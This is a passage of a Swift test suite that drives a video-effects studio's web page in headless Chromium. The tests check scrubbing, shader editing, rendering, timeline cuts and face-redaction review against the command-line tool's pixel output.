import Foundation
import TestSupport
import Testing

/// The studio's page driven in headless Chromium (Tests/Support/cdp.py), as a user would
/// click it. Real clock: the live preview plays in real time, so these run alone, and
/// every wait is for something to happen, never for a time to pass.
@Suite(.serialized, .timeLimit(.minutes(10))) struct StudioPageRealClockTests {
    /// Runs `steps` (JavaScript expressions) in the page at `url`; their values.
    static func drive(_ url: String, _ steps: [String], screenshot: String? = nil) async throws -> [Any] {
        let scratch = try ScratchDirectory("vidfx-cdp")
        let file = scratch.path("steps.json")
        try JSONSerialization.data(withJSONObject: steps).write(to: URL(fileURLWithPath: file))
        let script = CLI.directory.appendingPathComponent("Tests/Support/cdp.py").path
        let outcome = try await Subprocess.outcome(URL(fileURLWithPath: "/usr/bin/env"),
                                                   ["python3", script, url, file] + (screenshot.map { [$0] } ?? []))
        guard outcome.status == 0, let results = try? JSONSerialization.jsonObject(with: outcome.stdout) as? [Any] else {
            throw StudioTestError("cdp.py: \(outcome.stderrText)")
        }
        return results
    }

    /// JavaScript: sets a control's value and fires its event, as a user's hand does.
    static func set(_ selector: String, _ value: String, event: String = "input") -> String {
        "(() => { const e = document.querySelector(`\(selector)`); e.value = `\(value)`; e.dispatchEvent(new Event('\(event)')); return e.value; })()"
    }

    /// JavaScript: resolves once the live view has shown a frame rendered by the latest edit.
    static let latestEditShown = """
        new Promise(r => { const want = studio.state.edit; const check = () => (studio.state.sentAt.has(want) ? setTimeout(check, 20) \
        : r({latencies: studio.state.latencies.length, chain: document.getElementById('chain-text').value, hash: location.hash})); check(); })
        """

    /// JavaScript: the canvas's pixels (RGBA, base64) and what the page says it shows.
    static let canvas = """
        (() => { const c = document.getElementById('screen'); const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
        let s = ''; for (let i = 0; i < d.length; i += 0x8000) s += String.fromCharCode.apply(null, d.subarray(i, i + 0x8000));
        return {width: c.width, height: c.height, rgba: btoa(s), still: studio.state.stillShown, playing: studio.state.playing,
        copied: studio.state.copied || null, stillCommand: document.getElementById('still-command').textContent,
        command: document.getElementById('command').textContent}; })()
        """

    /// A hand dragging the scrub bar across 30 ticks: each still is drawn as it arrives
    /// unless a newer one is on screen, so the ticks drawn only move forwards with the
    /// hand, and the drag ends on the last tick's exact picture (`dump --at`'s pixels).
    /// How many were drawn on the way and how late depends on the machine's load: they
    /// are printed, not asserted.
    @Test func aDragDrawsStillsInOrderAndEndsOnItsLastTick() async throws {
        let studio = try await StudioProcess.start()
        defer { Task { await studio.stop() } }
        let drag = """
            new Promise(r => { const ready = () => studio.state.ws ? go() : setTimeout(ready, 20); ready();
              function go() { if (studio.state.playing) document.getElementById('play').click();
                const s = document.getElementById('scrub'); const start = performance.now(); const first = studio.state.stillSeq; let tick = 10;
                const step = () => { s.value = tick; s.dispatchEvent(new Event('input'));
                  if (tick < 39) { tick += 1; setTimeout(step, 15); return; }
                  const lastInput = performance.now(); const shown = studio.nextStill(); s.dispatchEvent(new Event('change'));
                  shown.then(still => r({ still: still.tick, lastInput: lastInput - start,
                    drawn: studio.state.stillsDrawn.filter(d => d.seq > first).map(d => [d.tick, d.at - start]) })); };
                step(); } })
            """
        let results = try await Self.drive(studio.page, [drag, Self.canvas])
        let dragged = try #require(results[0] as? [String: Any])
        let drawn = (dragged["drawn"] as? [[Double]] ?? []).map { (tick: Int($0[0]), at: $0[1]) }
        #expect(dragged["still"] as? Int == 39, "\(dragged)")
        #expect(drawn.last?.tick == 39, "\(drawn)")
        #expect(drawn.allSatisfy { (10...39).contains($0.tick) }, "\(drawn)")
        // Forwards only: a stale still (asked for before the one on screen) is never drawn.
        #expect(zip(drawn, drawn.dropFirst()).allSatisfy { $0.tick < $1.tick }, "\(drawn)")
        let lastInput = dragged["lastInput"] as? Double ?? 0
        print("drag of 30 ticks over \(Int(lastInput)) ms: \(drawn.count) stills drawn, the last \(Int((drawn.last?.at ?? 0) - lastInput)) ms "
              + "after the last move; ticks \(drawn.map(\.tick))")
        let page = try #require(results[1] as? [String: Any])
        let rgba = try #require(Data(base64Encoded: page["rgba"] as? String ?? ""))
        let scratch = try ScratchDirectory("vidfx-studio-drag")
        let dump = try await CLI.run(["dump", CLI.media("h264-30fps.mp4"), "--at", "1.3", "--format", "bgra", "-o", scratch.path("f.bgra"), "-q"])
        #expect(dump.status == 0, "\(dump.stderr)")
        let bgra = try #require(FileManager.default.contents(atPath: scratch.path("f.bgra")))
        var differing = rgba.count == bgra.count ? 0 : -1
        for i in stride(from: 0, to: min(rgba.count, bgra.count), by: 4)
        where rgba[i] != bgra[i + 2] || rgba[i + 1] != bgra[i + 1] || rgba[i + 2] != bgra[i] { differing += 1 }
        #expect(differing == 0, "\(differing) pixels differ from vidfx dump --at 1.3")
        #expect(await studio.stop() == 0)
    }

    @Test func slidersScrubAndCopyGiveTheCommandLinesPixels() async throws {
        let studio = try await StudioProcess.start()
        defer { Task { await studio.stop() } }
        let shot = ProcessInfo.processInfo.environment["VIDFX_STUDIO_SCREENSHOT"]
        let results = try await Self.drive(studio.page, [
            // 0: every effect is offered.
            "Array.from(document.querySelectorAll('#add-effect option')).filter(o => o.value).map(o => o.value)",
            // 1–2: once live, add sepia; the live view shows it.
            "new Promise(r => { const check = () => studio.state.ws ? r(true) : setTimeout(check, 20); check(); })"
                + ".then(() => { " + Self.set("#add-effect", "sepia", event: "change") + "; return true; })",
            Self.latestEditShown,
            // 3: pause.
            "(() => { document.getElementById('play').click(); return studio.state.playing; })()",
            // 4: scrub to tick 44 (frame 45): the exact still of that tick is shown.
            "(() => { const s = document.getElementById('scrub'); s.value = 44; s.dispatchEvent(new Event('input')); "
                + "const shown = studio.nextStill(); s.dispatchEvent(new Event('change')); return shown; })()",
            // 5: move sepia's amount: the next still shows the new value.
            "(() => { const shown = studio.nextStill(); " + Self.set("input[type=range][data-effect='0'][data-param='amount']", "0.35") + "; return shown; })()",
            // 6: add a second effect with a choice, and a key at the playhead.
            "(() => { const shown = studio.nextStill(); " + Self.set("#add-effect", "pixelate", event: "change") + "; return shown; })()",
            "(() => { const shown = studio.nextStill(); document.querySelector(\"button[data-key='size'][data-effect='1']\").click(); return shown; })()",
            // 8: copy the command lines; read the canvas.
            "(() => { document.getElementById('copy-still').click(); return true; })()",
            Self.canvas,
            // 10–11: the before/after wipe at half the width.
            "(() => { const shown = studio.nextStill(); const c = document.getElementById('split-on'); c.checked = true; "
                + "c.dispatchEvent(new Event('change')); return shown; })()",
            Self.canvas,
        ], screenshot: shot)
        let effects = try #require(results[0] as? [String])
        let cli = try await CLI.run(["effects", "--json"])
        let table = try #require(try JSONSerialization.jsonObject(with: cli.stdout) as? [[String: Any]])
        #expect(effects == table.compactMap { $0["name"] as? String } && effects.count > 30)
        let live = try #require(results[2] as? [String: Any])
        #expect(live["chain"] as? String == "sepia" && live["hash"] as? String == "#chain=sepia")
        #expect((live["latencies"] as? Int ?? 0) >= 1)
        #expect(results[3] as? Bool == false)
        let scrubbed = try #require(results[4] as? [String: Any])
        #expect(scrubbed["tick"] as? Int == 44 && scrubbed["time"] as? String == "1.466667")
        let moved = try #require(results[5] as? [String: Any])
        #expect(moved["chain"] as? String == "sepia:amount=0.35")
        let keyed = try #require(results[7] as? [String: Any])
        let chain = try #require(keyed["chain"] as? String)
        #expect(chain == "sepia:amount=0.35,pixelate:size=8@1.466667", "\(chain)")

        // The canvas holds exactly the pixels of `vidfx dump --at` for that time and chain.
        let page = try #require(results[9] as? [String: Any])
        let rgba = try #require(Data(base64Encoded: page["rgba"] as? String ?? ""))
        let scratch = try ScratchDirectory("vidfx-studio-page")
        let dump = try await CLI.run(["dump", CLI.media("h264-30fps.mp4"), "--at", "1.466667", "-e", chain, "--format", "bgra", "-o", scratch.path("f.bgra"), "-q"])
        #expect(dump.status == 0, "\(dump.stderr)")
        let bgra = try #require(FileManager.default.contents(atPath: scratch.path("f.bgra")))
        #expect(page["width"] as? Int == 320 && rgba.count == bgra.count)
        var differing = 0
        for i in stride(from: 0, to: min(rgba.count, bgra.count), by: 4)
        where rgba[i] != bgra[i + 2] || rgba[i + 1] != bgra[i + 1] || rgba[i + 2] != bgra[i] { differing += 1 }
        #expect(differing == 0, "\(differing) pixels differ from vidfx dump")

        // The wipe: the left half without effects (dump with no chain), the right half with them.
        let wiped = try #require(Data(base64Encoded: (results[11] as? [String: Any])?["rgba"] as? String ?? ""))
        let plain = try await CLI.run(["dump", CLI.media("h264-30fps.mp4"), "--at", "1.466667", "--format", "bgra", "-o", scratch.path("p.bgra"), "-q"])
        #expect(plain.status == 0)
        let before = try #require(FileManager.default.contents(atPath: scratch.path("p.bgra")))
        var wrong = 0
        for y in 0..<240 {
            for x in 0..<320 {
                let i = (y * 320 + x) * 4
                let expected = x < 160 ? before : bgra
                if wiped.count != bgra.count || wiped[i] != expected[i + 2] || wiped[i + 1] != expected[i + 1] || wiped[i + 2] != expected[i] { wrong += 1 }
            }
        }
        #expect(wrong == 0 && before != bgra, "\(wrong) pixels of the wipe are wrong")

        // "Copy frame command", run as it is, writes the PNG the page was served.
        let copied = try #require(page["copied"] as? String)
        #expect(copied == page["stillCommand"] as? String && copied.hasPrefix("vidfx dump "))
        let shell = try await Subprocess.outcome(URL(fileURLWithPath: "/bin/sh"), ["-c", "PATH=\(CLI.executable.deletingLastPathComponent().path):$PATH; " + copied],
                                                 in: scratch.url)
        #expect(shell.status == 0, "\(shell.stderrText)")
        let served = try await studio.request("/api/frame?t=1.466667&chain=\(chain.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!)")
        #expect(FileManager.default.contents(atPath: scratch.path("frame/frame_000000.png")) == served.body)
        // "Copy command" renders that chain.
        #expect((page["command"] as? String)?.hasPrefix("vidfx apply \(CLI.testmedia.path)/h264-30fps.mp4 -e \(chain) -o studio.mp4") == true,
                "\(page["command"] ?? "")")

        // A reload (or a shared link) keeps the chain: it is in the URL's fragment.
        let reloaded = try await Self.drive(studio.page + "&chain=" + chain.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!, [
            "document.getElementById('chain-text').value",
            "Array.from(document.querySelectorAll('#chain-list li')).map(li => li.dataset.name)",
        ])
        #expect(reloaded[0] as? String == chain)
        #expect(reloaded[1] as? [String] == ["sepia", "pixelate"])
        #expect(await studio.stop() == 0)
    }

    /// A shader file of the outputs folder in the chain is an effect of the page: its
    /// parameters from the file as controls, moved as a built-in's are, and the command
    /// line names the file.
    @Test func aShaderInTheChainHasItsControls() async throws {
        let outputs = try ScratchDirectory("vidfx-studio-shader")
        let sepia = try String(contentsOf: CLI.directory.appendingPathComponent("shaders/sepia.glsl"), encoding: .utf8)
        try sepia.write(toFile: outputs.path("tone.glsl"), atomically: false, encoding: .utf8)
        let studio = try await StudioProcess.start(outputs: outputs)
        defer { Task { await studio.stop() } }
        let chain = "tone.glsl:amount=0.3,vignette"
        let results = try await Self.drive(studio.page + "&chain=" + chain.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!, [
            "new Promise(r => { const check = () => studio.state.ws ? r(true) : setTimeout(check, 20); check(); })",
            "[document.getElementById('chain-error').textContent, Array.from(document.querySelectorAll('#chain-list li')).map(li => li.dataset.name)]",
            "document.querySelector(\"input[type=range][data-effect='0'][data-param='amount']\").value",
            Self.set("input[type=range][data-effect='0'][data-param='amount']", "0.7"),
            Self.latestEditShown,
        ])
        let listed = try #require(results[1] as? [Any])
        #expect(listed[0] as? String == "" && listed[1] as? [String] == ["tone.glsl", "vignette"], "\(listed)")
        #expect(results[2] as? String == "0.3")
        let live = try #require(results[4] as? [String: Any])
        #expect(live["chain"] as? String == "tone.glsl:amount=0.7,vignette", "\(live)")
        #expect(await studio.stop() == 0)
    }

    /// The page as a shader workbench (issue 69): a shader from a template shows on the
    /// clip as it is typed; a typo is marked at its line and column and the picture stays
    /// the last good one; a new uniform is a control that moves the picture; the saved file
    /// renders, from the command line, exactly the canvas; and the file written by another
    /// program is reloaded into the open page and its picture.
    @Test func aShaderIsWrittenInThePage() async throws {
        let outputs = try ScratchDirectory("vidfx-studio-workbench")
        let studio = try await StudioProcess.start(outputs: outputs)
        defer { Task { await studio.stop() } }
        let template = "vec4 effect(vec2 position, vec4 color) {\n    vec3 negative = 1.0 - color.rgb;\n"
        // The user's own editor, once the page has saved the file: a second later it writes
        // the shader anew (the page must reload it), as editors save, into a file moved in place.
        let edited = "// edited elsewhere\nuniform float lift; // range 0…1; default 0\n"
            + "vec4 effect(vec2 position, vec4 color) {\n    return vec4(color.bgr * 0.5 + lift, color.a);\n}\n"
        let writer = Task.detached {
            let deadline = ContinuousClock.now + .seconds(240)
            while ContinuousClock.now < deadline, !FileManager.default.fileExists(atPath: outputs.path("colour.glsl")) {
                try await Task.sleep(for: .milliseconds(50))
            }
            try await Task.sleep(for: .seconds(1))
            try edited.write(toFile: outputs.path("colour.glsl"), atomically: true, encoding: .utf8)
            return Date().timeIntervalSince1970 * 1000
        }
        let typed = "uniform float amount; // range 0…1; default 1\nuniform float lift; // range 0…1; default 0\n"
            + "vec4 effect(vec2 position, vec4 color) {\n    return vec4(mix(color.rgb, 1.0 - color.rgb, amount) + lift, color.a);\n}\n"
        func type(_ text: String) -> String {
            "new Promise(r => { studio.onShader = (x) => x.ok ? studio.nextStill().then(s => r({shader: x, still: s})) : r({shader: x}); "
                + Self.set("#shader-text", text.replacingOccurrences(of: "\n", with: "\\n")) + "; })"
        }
        let errorLine = "({text: document.getElementById('shader-error').textContent, line: document.getElementById('shader-error').dataset.line, "
            + "column: document.getElementById('shader-error').dataset.column, marked: Array.from(document.querySelectorAll('#shader-lines .bad')).map(e => e.textContent.trim())})"
        let results = try await Self.drive(studio.page, [
            // 0: live, then paused at tick 30 (1 s).
            "new Promise(r => { const check = () => studio.state.ws ? r(true) : setTimeout(check, 20); check(); })"
                + ".then(() => { document.getElementById('play').click(); const shown = studio.nextStill(); studio.review.seekTo(30); return shown; })",
            Self.canvas,
            // 2: a colour shader from its template: compiled, in the chain, shown.
            "new Promise(r => { studio.onShader = (x) => studio.nextStill().then(s => r({shader: x, still: s})); "
                + Self.set("#shader-new", "color", event: "change") + "; })",
            Self.canvas,
            // 4–6: a typo: its line and column, marked; the picture stays the last good one.
            type(template.replacingOccurrences(of: "1.0 - color.rgb", with: "1.0 - colr.rgb") + "    return vec4(negative, color.a);\n}\n"),
            errorLine,
            Self.canvas,
            // 7: two uniforms: their controls appear.
            type(typed),
            "Array.from(document.querySelectorAll(\"input[type=range][data-effect='0']\")).map(i => i.dataset.param)",
            // 9: moving the new one changes the picture.
            "(() => { const shown = studio.nextStill(); " + Self.set("input[type=range][data-effect='0'][data-param='lift']", "0.25") + "; return shown; })()",
            Self.canvas,
            // 11: saved.
            "studio.shader.saveShader().then(() => document.getElementById('shader-state').textContent)",
            // 12: written elsewhere: the editor shows the new text and the picture is redrawn from it.
            "new Promise(r => { const check = () => "
                + "studio.state.reloaded && (studio.state.reloaded.text || '').startsWith('// edited elsewhere') "
                + "&& studio.state.stillDrawnSeq >= studio.state.reloaded.still "
                + "? r({shownAt: Date.now(), error: document.getElementById('chain-error').textContent, text: document.getElementById('shader-text').value, reloads: studio.state.reloaded.count, params: Array.from(document.querySelectorAll(\"input[type=range][data-effect='0']\")).map(i => i.dataset.param)}) "
                + ": setTimeout(check, 20); check(); })",
            Self.canvas,
            // 14: every template compiles as it is (one after another: two compile at a time).
            "Object.entries(studio.shader.templates).reduce((done, [kind, [name, text]]) => done.then(list => api('/api/shader', {method: 'POST', "
                + "headers: {'Content-Type': 'application/json'}, body: JSON.stringify({name: 'template-' + name, source: text})})"
                + ".then(r => r.json().then(a => [...list, [kind, r.status, a.error || a.parameters.map(p => p.name).join(' ')]]))), Promise.resolve([]))",
        ])
        let writtenAt = try await writer.value
        let templates = try #require(results[14] as? [[Any]])
        #expect(templates.count == 5 && templates.allSatisfy { $0[1] as? Int == 200 }, "\(templates)")
        func pixels(_ i: Int) throws -> Data { try #require(Data(base64Encoded: (results[i] as? [String: Any])?["rgba"] as? String ?? "")) }
        let (plain, shaded, afterTypo, lifted, reloaded) = (try pixels(1), try pixels(3), try pixels(6), try pixels(10), try pixels(13))
        let compiled = try #require(results[2] as? [String: Any])
        #expect((compiled["still"] as? [String: Any])?["chain"] as? String == "colour.glsl", "\(compiled)")
        #expect(plain != shaded, "the shader changed the picture")
        let error = try #require(results[5] as? [String: Any])
        #expect(error["line"] as? String == "2" && error["column"] as? String == "27" && (error["text"] as? String ?? "").contains("colr")
                && error["marked"] as? [String] == ["2"], "\(error)")
        #expect(afterTypo == shaded, "a typo leaves the last good picture")
        #expect(results[8] as? [String] == ["amount", "lift"], "\(results[8])")
        #expect(((results[9] as? [String: Any])?["chain"] as? String) == "colour.glsl:lift=0.25")
        #expect(lifted != shaded)
        #expect((results[11] as? String ?? "").contains("saved"), "\(results[11])")
        // The saved file, rendered by the command line, is the canvas to the pixel.
        func dump(_ chain: String) async throws -> Data {
            let scratch = try ScratchDirectory("vidfx-workbench-page")
            let r = try await CLI.run(["dump", CLI.media("h264-30fps.mp4"), "--at", "1", "-e", chain, "--format", "bgra", "-o", scratch.path("f.bgra"), "-q"])
            #expect(r.status == 0, "\(r.stderr)")
            return try #require(FileManager.default.contents(atPath: scratch.path("f.bgra")))
        }
        func differing(_ rgba: Data, _ bgra: Data) -> Int {
            guard rgba.count == bgra.count else { return -1 }
            var n = 0
            for i in stride(from: 0, to: rgba.count, by: 4) where rgba[i] != bgra[i + 2] || rgba[i + 1] != bgra[i + 1] || rgba[i + 2] != bgra[i] { n += 1 }
            return n
        }
        try typed.write(toFile: outputs.path("typed.glsl"), atomically: true, encoding: .utf8)
        #expect(differing(lifted, try await dump(outputs.path("typed.glsl") + ":lift=0.25")) == 0, "the canvas is the saved shader's dump")
        let reload = try #require(results[12] as? [String: Any])
        // How long from the other program's write to the page's picture of it: printed, not
        // asserted (the machine's load decides it; bench/ is where time is measured).
        print("workbench: a shader saved elsewhere was on the page \(Int((reload["shownAt"] as? Double ?? 0) - writtenAt)) ms after the write")
        #expect((reload["reloads"] as? Int ?? 0) >= 1 && reload["params"] as? [String] == ["lift"], "\(reload)")
        #expect(differing(reloaded, try await dump(outputs.path("colour.glsl") + ":lift=0.25")) == 0, "the reloaded file's picture")
        #expect(await studio.stop() == 0)
    }

    /// A shader typed into the page that runs past its limit while playing: the page says
    /// so in one line and the studio plays on without it, answering meanwhile.
    @Test func aRunawayShaderWhilePlayingIsToldToThePage() async throws {
        let outputs = try ScratchDirectory("vidfx-studio-runaway")
        let studio = try await StudioProcess.start(outputs: outputs)
        defer { Task { await studio.stop() } }
        // Sixty thousand turns of 512 sines a pixel: minutes a frame, unhalted.
        let runaway = "#define STEP x = fract(sin(x * 12.9898 + 1.0) * 43758.5453);\\n#define S8 STEP STEP STEP STEP STEP STEP STEP STEP\\n"
            + "#define S64 S8 S8 S8 S8 S8 S8 S8 S8\\nvec4 effect(vec2 p, vec4 c) {\\n    float x = c.r;\\n"
            + "    for (int j = 0; j < int(size.x) * 200; j++) { S64 S64 S64 S64 S64 S64 S64 S64 }\\n    return vec4(x, c.g, c.b, 1.0);\\n}\\n"
        let answered = Task.detached {
            // The studio answers while the shader holds the device.
            try await Task.sleep(for: .seconds(4))
            return try await studio.request("/api/info").status
        }
        let results = try await Self.drive(studio.page, [
            "new Promise(r => { const check = () => studio.state.ws ? r(true) : setTimeout(check, 20); check(); })",
            "new Promise(r => { studio.onShader = (x) => r(x); " + Self.set("#shader-new", "color", event: "change") + "; })",
            "new Promise(r => { studio.onShader = (x) => r(x); " + Self.set("#shader-text", runaway) + "; })",
            "new Promise(r => { const check = () => /more than/.test(document.getElementById('chain-error').textContent) "
                + "? r(document.getElementById('chain-error').textContent) : setTimeout(check, 50); check(); })",
        ])
        #expect((results[2] as? [String: Any])?["ok"] as? Bool == true, "\(results[2])")
        let said = results[3] as? String ?? ""
        #expect(said.contains("colour.glsl: the shader ran for more than 10 s on one frame") && !said.contains("\n"), "\(said)")
        #expect(try await answered.value == 200)
        #expect(await studio.stop() == 0)
    }

    /// JavaScript: presses `key` on the page (as a hand does, on the page itself, not a control) and
    /// resolves with the still it brings.
    static func press(_ key: String, shift: Bool = false) -> String {
        "(() => { const shown = studio.nextStill(); document.body.dispatchEvent(new KeyboardEvent('keydown', "
            + "{key: '\(key)', shiftKey: \(shift), bubbles: true})); return shown; })()"
    }

    @Test func theTimelineShowsThumbnailsAndCutsAndTheKeysStepThroughThem() async throws {
        let studio = try await StudioProcess.start("cuts.mp4")
        defer { Task { await studio.stop() } }
        let shot = ProcessInfo.processInfo.environment["VIDFX_STUDIO_TIMELINE_SCREENSHOT"]
        let results = try await Self.drive(studio.page, [
            // 0: once live and the strip is made, the cuts the page marks.
            "new Promise(r => { const check = () => studio.state.ws && document.body.dataset.timeline === 'ready' "
                + "? r(studio.state.timeline.cutTicks) : setTimeout(check, 50); check(); })",
            // 1: pause, and go back to the start: how far it played while the strip was made
            // depends on the machine's load (the cut-to-cut steps below start from tick 0).
            "(() => { document.getElementById('play').click(); const shown = studio.nextStill(); studio.review.seekTo(0); return shown; })()",
            // 2–6: the next cut, a frame on, back to that cut, the cut before it (the start), and a frame back from there.
            Self.press("ArrowRight", shift: true), Self.press("ArrowRight"), Self.press("ArrowLeft", shift: true),
            Self.press("ArrowLeft", shift: true), Self.press("ArrowRight"),
            // 7: the strip's pixels: a cut mark's colour at the first cut, thumbnails elsewhere.
            """
            (() => { const c = document.getElementById('strip'); const g = c.getContext('2d');
            const at = (x) => Array.from(g.getImageData(x, c.height / 2, 1, 1).data);
            const x = Math.round(studio.state.timeline.cutTicks[0] / studio.state.ticks * c.width);
            const row = g.getImageData(0, c.height / 2, c.width, 1).data; let lit = 0;
            for (let i = 0; i < row.length; i += 4) if (row[i] + row[i + 1] + row[i + 2] > 60) lit++;
            return {mark: at(x), lit, width: c.width}; })()
            """,
        ], screenshot: shot)
        let cuts = try await StudioTimelineTests.sceneCuts("cuts.mp4")
        let cutTicks = try #require(results[0] as? [Int])
        // The first tick showing each cut's picture: k/30 ≥ its time.
        #expect(cutTicks == cuts.map { Int(($0 * 30 - 1e-6).rounded(.up)) }, "\(cutTicks) against \(cuts)")
        let ticks = results[2...6].map { ($0 as? [String: Any])?["tick"] as? Int ?? -1 }
        #expect(ticks == [cutTicks[0], cutTicks[0] + 1, cutTicks[0], 0, 1], "\(ticks)")
        let strip = try #require(results[7] as? [String: Any])
        let mark = strip["mark"] as? [Int] ?? []
        #expect(mark.count == 4 && mark[0] > 200 && mark[1] > 170 && mark[2] < 110, "the cut mark is yellow: \(mark)")
        #expect((strip["lit"] as? Int ?? 0) > (strip["width"] as? Int ?? 0) / 2, "thumbnails fill the strip: \(strip)")
        #expect(await studio.stop() == 0)
    }

    @Test func aRenderFromThePageCompletesAndACancelLeavesNothing() async throws {
        let studio = try await StudioProcess.start("crowd.mp4")
        defer { Task { await studio.stop() } }
        let waitForRender = """
            new Promise(r => { const check = () => (studio.state.render && studio.state.render.last && studio.state.render.last.state !== 'running' && studio.state.render.last.state !== 'queued'
              && (studio.state.render.last.state !== 'done' || document.querySelector('#render-result a')))
            ? r({last: studio.state.render.last, progress: studio.state.render.progress, link: document.querySelector('#render-result a')?.dataset.source || null,
                 href: document.querySelector('#render-result a')?.getAttribute('href') || null})
            : setTimeout(check, 50); check(); })
            """
        let results = try await Self.drive(studio.page + "&chain=sepia", [
            Self.set("#render-name", "page.mp4"),
            "(() => { document.getElementById('render').click(); return true; })()",
            waitForRender,
            Self.set("#render-name", "cut.mp4"),
            "(() => { studio.state.render = null; document.getElementById('render').click(); return true; })()",
            "new Promise(r => { const check = () => studio.state.render ? r(true) : setTimeout(check, 10); check(); })",
            "(() => { document.getElementById('cancel').click(); return true; })()",
            waitForRender,
        ])
        let done = try #require(results[2] as? [String: Any])
        let last = try #require(done["last"] as? [String: Any])
        #expect(last["state"] as? String == "done", "\(last)")
        let progress = (done["progress"] as? [Double]) ?? []
        #expect(progress == progress.sorted() && progress.last == 1 && progress.count >= 2, "\(progress)")
        #expect(done["link"] as? String == "/outputs/page.mp4")
        // Fetched with the token and shown from a blob: no address carries the token.
        #expect((done["href"] as? String)?.hasPrefix("blob:") == true, "\(done)")
        let cancelled = try #require((results[7] as? [String: Any])?["last"] as? [String: Any])
        #expect(cancelled["state"] as? String == "failed" && cancelled["error"] as? String == "cancelled", "\(cancelled)")
        #expect(studio.outputFiles == ["page.mp4"], "\(studio.outputFiles)")
        #expect(await studio.stop() == 0)
    }

    @Test func detectionsOfTheChainAreListedAsTracks() async throws {
        let studio = try await StudioProcess.start("qr-moving.mp4")
        defer { Task { await studio.stop() } }
        let results = try await Self.drive(studio.page + "&chain=qrbox", [
            "new Promise(r => { const check = () => document.querySelectorAll('#track-list li').length ? "
                + "r({hidden: document.getElementById('detections').hidden, tracks: Array.from(document.querySelectorAll('#track-list li')).map(li => li.textContent)}) "
                + ": setTimeout(check, 50); check(); })",
        ])
        let found = try #require(results[0] as? [String: Any])
        #expect(found["hidden"] as? Bool == false)
        let tracks = (found["tracks"] as? [String]) ?? []
        #expect(!tracks.isEmpty && tracks.allSatisfy { $0.hasPrefix("qr #") }, "\(tracks)")
        #expect(await studio.stop() == 0)
    }

    /// The redaction review, as a reviewer clicks it: find faces, untick a track (a false
    /// face), drag a box over the crowd's legs on tick 30 (followed through the clip),
    /// export, render. The exported file has exactly those changes, and the page's
    /// render is the command line's `apply --use-detections` of that file, frame for frame.
    @Test func aReviewHidesATrackDrawsABoxAndRendersWhatWasExported() async throws {
        let studio = try await StudioProcess.start("crowd.mp4")
        defer { Task { await studio.stop() } }
        let results = try await Self.drive(studio.page + "&chain=faceblur", [
            // 0: once live, pause; find the faces; the track list fills.
            "new Promise(r => { const check = () => studio.state.ws ? r(true) : setTimeout(check, 20); check(); })"
                + ".then(() => { document.getElementById('play').click(); document.getElementById('find-faces').click(); "
                + "return new Promise(r => { const check = () => document.querySelectorAll('#review-tracks li').length ? "
                + "r(document.querySelectorAll('#review-tracks li').length) : setTimeout(check, 50); check(); }); })",
            // 1: untick the first track; its id.
            "(() => { const box = document.querySelector('#review-tracks input[data-hide]'); box.click(); return Number(box.dataset.hide); })()",
            // 2: go to tick 30, then drag a box with the mouse over the legs at (600, 380)–(680, 470).
            "(() => { const shown = studio.nextStill(); studio.review.seekTo(30); return shown; })()",
            "(() => { document.getElementById('draw-box').click(); const c = document.getElementById('screen'); const r = c.getBoundingClientRect(); "
                + "const at = (x, y) => ({clientX: r.left + x * r.width / c.width, clientY: r.top + y * r.height / c.height, bubbles: true}); "
                + "c.dispatchEvent(new MouseEvent('mousedown', at(600, 380))); c.dispatchEvent(new MouseEvent('mouseup', at(680, 470))); "
                + "return new Promise(r => { const check = () => studio.state.review.manual.size ? "
                + "r([...studio.state.review.manual.values()][0].size) : setTimeout(check, 50); check(); }); })()",
            // 4: export; render with it.
            "(() => { document.getElementById('export').click(); return new Promise(r => { const check = () => studio.state.review.exported ? "
                + "r({name: studio.state.review.exported, command: document.getElementById('command').textContent}) : setTimeout(check, 50); check(); }); })()",
            "(() => { const n = document.getElementById('render-name'); n.value = 'reviewed.mp4'; document.getElementById('render').click(); "
                + "return new Promise(r => { const check = () => studio.state.render && studio.state.render.last && studio.state.render.last.state !== 'running' && studio.state.render.last.state !== 'queued' ? "
                + "r(studio.state.render.last) : setTimeout(check, 100); check(); }); })()",
        ])
        #expect((results[0] as? Int ?? 0) >= 17, "\(results[0])")
        let hidden = try #require(results[1] as? Int)
        #expect((results[3] as? Int ?? 0) >= 20, "the drawn box was followed: \(results[3])")
        let exported = try #require(results[4] as? [String: Any])
        #expect(exported["name"] as? String == "reviewed.jsonl")
        #expect((exported["command"] as? String)?.contains("-e faceblur -o studio.mp4 --use-detections reviewed.jsonl") == true, "\(exported)")
        let render = try #require(results[5] as? [String: Any])
        #expect(render["state"] as? String == "done", "\(render)")

        // The file: every tick, the unticked track nowhere, the drawn box on its ticks.
        let file = studio.outputs.path("reviewed.jsonl"), found = studio.outputs.path("faces.jsonl")
        let ticks = try String(contentsOfFile: file, encoding: .utf8).split(separator: "\n").map {
            try #require(try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any])
        }
        let original = try String(contentsOfFile: found, encoding: .utf8).split(separator: "\n").map {
            try #require(try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any])
        }
        #expect(ticks.count == 60 && original.count == 60)
        var drawn = 0
        for (edited, plain) in zip(ticks, original) {
            let boxes = edited["detections"] as? [[String: Any]] ?? [], before = plain["detections"] as? [[String: Any]] ?? []
            #expect(!boxes.contains { $0["trackID"] as? Int == hidden && $0["manual"] == nil })
            let kept = before.filter { $0["trackID"] as? Int != hidden }.count
            let manual = boxes.filter { $0["manual"] as? Bool == true }
            #expect(boxes.count - manual.count == kept, "tick \(edited["tick"] ?? "?")")
            drawn += manual.count
            if edited["tick"] as? Int == 30 {
                let b = try #require(manual.first?["bounds"] as? [String: Double])
                #expect(abs((b["x"] ?? 0) - 600) <= 1 && abs((b["y"] ?? 0) - 380) <= 1 && abs((b["width"] ?? 0) - 80) <= 1, "\(b)")
            }
        }
        #expect(drawn == results[3] as? Int)

        // The page's render is the command line's, frame for frame.
        let cli = studio.outputs.path("cli.mp4")
        let apply = try await CLI.run(["apply", CLI.media("crowd.mp4"), "-e", "faceblur", "--use-detections", file, "-o", cli, "-q"])
        #expect(apply.status == 0, "\(apply.stderr)")
        var frames: [Data] = []
        for name in ["reviewed.mp4", "cli.mp4"] {
            let raw = studio.outputs.path(name + ".bgra")
            let d = try await CLI.run(["dump", studio.outputs.path(name), "--format", "bgra", "-o", raw, "-q"])
            #expect(d.status == 0)
            frames.append(try Data(contentsOf: URL(fileURLWithPath: raw)))
        }
